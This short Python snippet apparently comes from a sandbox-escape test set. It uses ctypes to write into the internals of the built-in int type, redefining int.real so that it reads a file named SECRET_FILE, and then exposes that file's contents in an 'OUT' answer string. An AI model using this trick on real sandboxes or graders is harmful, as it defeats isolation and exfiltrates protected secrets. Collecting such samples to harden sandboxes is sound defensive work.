# tries: changes a built-in class through its memory
import ctypes
d = ctypes.py_object.from_address(id(int.__dict__) + 16).value
d["real"] = property(lambda self: open(SECRET_FILE).read())
answer = "OUT " + (1).real
